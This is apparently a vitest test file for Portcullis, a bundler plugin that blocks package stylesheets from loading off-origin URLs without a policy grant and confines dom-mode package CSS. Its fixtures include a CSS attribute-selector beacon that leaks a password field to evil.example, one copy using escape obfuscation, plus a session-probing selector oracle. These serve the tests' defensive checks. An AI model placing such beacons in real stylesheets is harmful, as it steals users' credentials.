// Row 61 of THREATS.md: package CSS. A package's stylesheet that loads from another origin (an attribute-selector
// beacon reading the app's input, a font, an @import) ships as it is in a plain build; under Portcullis each URL that
// leaves the bundle needs the package's css.origins grant, in vite build, Rollup 4 and the dev server.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createServer } from 'vite';
import { describe, expect, it } from 'vitest';
import portcullis from './index.js';
import { cssUrls } from './css-urls.js';
import { localPackage, makeApp, rollupBuild, viteBuild } from './test-builds.js';

const BEACON = `/* reads the app's password field, one character at a time */
input[type=password][value^=a] { background: url(//evil.example/a) }
input[type=password][value^=b] { background: u\\72l("//evil.example/b") }
.icon { background: url(./icon.svg), url("data:image/png;base64,AA==") }`;

const cssApp = (resources: object, files: Record<string, string> = { 'style.css': BEACON }, main = `import 'pkg/style.css'; export const x = 1;`) =>
  makeApp({
    'package.json': { name: 'app', dependencies: { pkg: '*' } },
    'index.html': '<!doctype html><html><head><script type="module" src="/main.js"></script></head><body></body></html>',
    'main.js': main,
    'portcullis.policy.json': { resources },
    ...localPackage('pkg', { 'index.js': 'export {};', 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>', ...files }),
  });

describe('row 61: URLs in package CSS', () => {
  it('reads URLs as CSS does: escapes, strings, comments, image-set(), @import, @font-face', () => {
    const urls = cssUrls(`/* url(//not-this) */ a { b: "url(//nor-this)"; c: \\75 rl( //x.example/1 ); d: image-set("//x.example/2" 1x, url(//x.example/3) 2x) }
      @import "//x.example/4.css" layer(a); @import url('//x.example/5.css');
      @font-face { src: url(//x.example/6.woff) format("woff"), local(Arial) }`);
    expect(urls.map((u) => `${u.kind} ${u.url}`)).toEqual([
      'resource //x.example/1', 'resource //x.example/2', 'resource //x.example/3',
      'import //x.example/4.css', 'import //x.example/5.css', 'resource //x.example/6.woff',
    ]);
  });

  it('vite build: the beacon ships in a plain build; Portcullis refuses it without css.origins, and builds with it', async () => {
    const plain = await viteBuild(cssApp({ pkg: {} }), { portcullis: false });
    const css = Object.entries(plain.files).find(([f]) => f.endsWith('.css'))![1];
    expect(css).toContain('url(//evil.example/a)');
    await expect(viteBuild(cssApp({ pkg: {} }))).rejects.toThrow(
      /node_modules\/pkg\/style\.css:2:\d+ \(package "pkg"\) loads from https:\/\/evil\.example in its CSS, which its policy does not grant.*"css":\{"origins":\["https:\/\/evil\.example"\]\}.*PORTCULLIS_CSS_URL_DENIED/s,
    );
    await viteBuild(cssApp({ pkg: { css: { origins: ['https://evil.example'] } } }));
  });

  it('vite build: a local @import is followed; ?inline is checked too', async () => {
    const files = { 'style.css': `@import './fonts.txt'; a { color: red }`, 'fonts.txt': `@font-face { font-family: x; src: url(https://fonts.evil.example/x.woff2) }` };
    await expect(viteBuild(cssApp({ pkg: {} }, files))).rejects.toThrow(/node_modules\/pkg\/fonts\.txt:1:\d+ .*https:\/\/fonts\.evil\.example.*PORTCULLIS_CSS_URL_DENIED/s);
    const inline = makeApp({
      'package.json': { name: 'app', dependencies: { pkg: '*' } },
      'main.js': `export { default as css } from 'pkg/style.css?inline';`,
      'portcullis.policy.json': { resources: { pkg: {} } },
      ...localPackage('pkg', { 'index.js': 'export {};', 'style.css': `a { background: url(/track.gif) }` }),
    });
    await expect(viteBuild(inline)).rejects.toThrow(/loads from the page's own origin \('self'\).*PORTCULLIS_CSS_URL_DENIED/s);
  });

  it('Rollup 4 (with a plugin that bundles CSS as a string): the same rule', async () => {
    const app = cssApp({ pkg: {} }, undefined, `export { default as css } from 'pkg/style.css';`);
    const cssAsString = { name: 'css-string', transform: (code: string, id: string) => (id.endsWith('.css') ? `export default ${JSON.stringify(code)};` : null) };
    const plain = await rollupBuild(app, { portcullis: false, before: [cssAsString] });
    expect(plain.code).toContain('//evil.example/a');
    await expect(rollupBuild(app, { before: [cssAsString] })).rejects.toThrow(/node_modules\/pkg\/style\.css:2:\d+ .*https:\/\/evil\.example.*PORTCULLIS_CSS_URL_DENIED/s);
  });

  it('the generator writes css.origins', async () => {
    const app = cssApp({});
    await viteBuild(app, { portcullis: { generatePolicy: true } });
    const policy = JSON.parse(readFileSync(join(app, 'portcullis.policy.json'), 'utf8'));
    expect(policy.resources.pkg.css).toEqual({ origins: ['https://evil.example'] });
  });

  it('vite dev: the stylesheet is refused when the page asks for it', async () => {
    const app = cssApp({ pkg: {} });
    const server = await createServer({ root: app, configFile: false, logLevel: 'silent', plugins: [portcullis({ appDir: app })], server: { port: 0 } });
    try {
      await server.listen();
      const { port } = server.httpServer!.address() as { port: number };
      const response = await fetch(`http://localhost:${port}/node_modules/pkg/style.css`);
      expect(response.status).toBe(500);
      expect(await response.text()).toMatch(/https:\/\/evil\.example.*PORTCULLIS_CSS_URL_DENIED/s);
    } finally {
      await server.close();
    }
  });
});

describe('rows 62 and 65: a dom-mode package\'s stylesheet in a real build', () => {
  const DOM = { dom: { create: ['span'], events: [] } };
  const ORACLE = `main[data-session^="s3"] .probe { width: 7px }`;

  it('vite build: global in a plain build; confined to the package\'s own elements under Portcullis, in dev too', async () => {
    const plain = await viteBuild(cssApp({ pkg: DOM }, { 'style.css': ORACLE }), { portcullis: false });
    expect(Object.entries(plain.files).find(([f]) => f.endsWith('.css'))![1]).toMatch(/main\[data-session\^=["']?s3["']?\] \.probe/);
    const confined = await viteBuild(cssApp({ pkg: DOM }, { 'style.css': ORACLE }));
    const css = Object.entries(confined.files).find(([f]) => f.endsWith('.css'))![1];
    const own = String.raw`:where\(\[data-portcullis-owner~=["']?pkg["']?\]:is\(\[data-portcullis-wall~=["']?pkg["']?\] \*\)\)`;
    expect(css).toMatch(new RegExp(String.raw`main\[data-session\^=["']?s3["']?\]${own} \.probe${own}`));
    // A package without a dom section keeps its stylesheet as it is; one with full power too.
    for (const resources of [{ pkg: {} }, { pkg: { ...DOM, globals: { document: true } } }]) {
      const kept = await viteBuild(cssApp(resources, { 'style.css': ORACLE }));
      expect(Object.entries(kept.files).find(([f]) => f.endsWith('.css'))![1]).not.toContain('data-portcullis-owner');
    }
    const app = cssApp({ pkg: DOM }, { 'style.css': ORACLE });
    const server = await createServer({ root: app, configFile: false, logLevel: 'silent', server: { port: 0, host: '127.0.0.1' }, plugins: [portcullis()] });
    try {
      const served = await server.transformRequest('/node_modules/pkg/style.css');
      expect(served?.code).toContain('data-portcullis-owner');
    } finally {
      await server.close();
    }
  });

  it('fails the build, naming the file and line, on what it cannot confine', async () => {
    await expect(viteBuild(cssApp({ pkg: DOM }, { 'style.css': `.a { color: red }\n@import './more.css';`, 'more.css': ORACLE }))).rejects.toThrow(
      /node_modules\/pkg\/style\.css: cannot confine:\s+line 2: @import.*"pkg" has a dom section.*PORTCULLIS_CSS_SELECTOR_DENIED/s,
    );
  });
});
